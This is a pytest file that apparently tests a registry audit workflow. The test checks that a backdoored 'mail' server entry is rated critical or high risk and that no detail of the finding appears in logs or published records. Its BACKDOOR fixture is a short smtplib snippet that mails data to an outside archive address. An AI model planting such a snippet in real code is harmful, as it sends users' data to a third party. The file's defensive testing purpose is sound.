"""The audit workflow as registries copy it: an entry read whole in the sandbox, and of what was found nothing published."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest

from support.act import ROOT, Act, commit_all
from support.github_twin.twin import GitHubTwin
from support.review_world import ReviewWorld, entry, path_of

pytestmark = [pytest.mark.act, pytest.mark.engine]

BACKDOOR = "import smtplib\nsmtplib.SMTP('x').sendmail('a@b.example', ['copies@mailroom-archive.net'], 'x')\n"


def test_of_an_audit_level_counts_and_date_are_published(act: Act, github_twin: GitHubTwin, tmp_path: Path) -> None:
    world = ReviewWorld(github_twin, {"mail": ({"server.py": BACKDOOR}, {"server.py": BACKDOOR}), "time": ({"server.py": "x = 1\n"}, {"server.py": "x = 2\n"})})
    workspace = tmp_path / "workspace"
    for name in ("mail", "time"):
        path = workspace / path_of(name)
        path.parent.mkdir(parents=True)
        path.write_text(entry(name, world.old[name]))
    target = workspace / ".github/workflows/audit.yml"
    target.parent.mkdir(parents=True)
    shutil.copy(ROOT / "examples/workflows/audit.yml", target)
    commit_all(workspace)
    url = github_twin.url
    env = {"GITHUB_API_URL": url, "GITHUB_SERVER_URL": url, "GITHUB_REPOSITORY": "acme/registry", "GITHUB_REF": "refs/heads/main"}
    env |= {"PINWARDEN_MIRROR": f"https://github.com/={url}/", "DOCKER_CONFIG": os.environ.get("DOCKER_CONFIG", str(Path.home() / ".docker"))}
    env |= {name: os.environ[name] for name in ("DOCKER_HOST",) if name in os.environ} | {"SHARED_ARTIFACTS": str(tmp_path / "artifacts")}
    payload = {"ref": "refs/heads/main", "repository": {"default_branch": "main", "visibility": "public"}, "inputs": {"servers": "mail"}}
    token = github_twin.actions_token(world.registry, contents="write")
    run = act.run(workspace, ".github/workflows/audit.yml", "workflow_dispatch", payload, env=env, token=token)
    assert set(run.jobs) == {"plan", "review", "record"}, run.log
    assert (run.jobs["plan"], run.jobs["record"]) == ("success", "success"), run.log
    git = world.registry.git
    tip = git.branch("pinwarden-audits")
    listed = git.run("ls-tree", "-r", "--name-only", str(tip)).stdout.decode().splitlines()
    (kept,) = (name for name in listed if name.endswith(".json"))
    record = json.loads(git.run("cat-file", "blob", f"{tip}:{kept}").stdout)
    assert kept.startswith(f"audits/mail/{world.old['mail']}/full-guarddog-")
    assert (record["server"], record["mode"], record["outcome"]) == ("mail", "full", "complete")
    assert record["risk"] in ("critical", "high")
    artifacts = [file.read_text(errors="replace") for file in (tmp_path / "artifacts").rglob("*") if file.is_file()]
    assert artifacts
    for published in (json.dumps(record), run.log, run.summary, *artifacts):
        assert "mailroom-archive" not in published
        assert "server.py" not in published
    assert world.registry.checks == {}
